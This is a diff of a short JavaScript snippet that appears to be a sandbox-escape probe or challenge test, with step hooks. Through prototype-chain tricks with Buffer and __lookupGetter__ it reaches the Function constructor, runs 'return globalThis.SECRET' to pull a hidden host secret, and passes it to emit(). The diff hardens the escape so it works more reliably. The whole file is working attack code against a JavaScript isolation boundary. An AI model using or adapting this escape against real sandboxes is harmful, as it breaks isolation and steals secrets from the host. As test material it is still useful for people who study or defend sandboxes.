@@ -1,25 +1,23 @@
-const up = Buffer.apply.apply({}.__lookupGetter__, [Buffer, ['__proto__']]);
+const got = Buffer.apply.apply({}.__lookupGetter__, [Buffer, ['__proto__']]);
+const up = typeof got === 'function' ? got : () => null;
 const dig = (value, depth) => {
-  if (value === null || depth > 3 || !['object', 'function'].includes(typeof value)) return;
+  if (value === null || depth > 3) return;
   if (typeof value === 'function') {
     const secret = value('return globalThis.SECRET')();
     if (secret) emit(secret);
-  } else {
-    for (const key of Reflect.ownKeys(value)) dig(value[key], depth + 1);
+  } else if (typeof value === 'object') {
+    for (const key of ['constructor', 'value', 0, 1]) dig(value[key], depth + 1);
   }
 };
 at_step();
 let top = Buffer.of();
 for (let step = 0; step < 4 && up.call(top); step += 1) top = up.call(top);
-const target = up.call(Buffer.from);
-for (const name of ['getOwnPropertyDescriptor', 'getOwnPropertyDescriptors', 'entries']) {
-  try {
-    const found = top.constructor[name](target, 'constructor');
-    dig(found, 0);
-    dig(top.constructor.entries(found), 0);
-    dig(top.constructor.assign([], found), 0);
-  } catch (error) {
-    caught(error);
+const kind = top.constructor;
+const target = up.call(Buffer.from) || Buffer.from;
+for (const name of ['getOwnPropertyDescriptor', 'getOwnPropertyDescriptors']) {
+  if (typeof kind[name] === 'function') {
+    const part = kind[name](target, 'constructor');
+    for (const own of [part, kind.entries(part), kind.assign([], part)]) dig(own, 0);
   }
 }
 past_step();
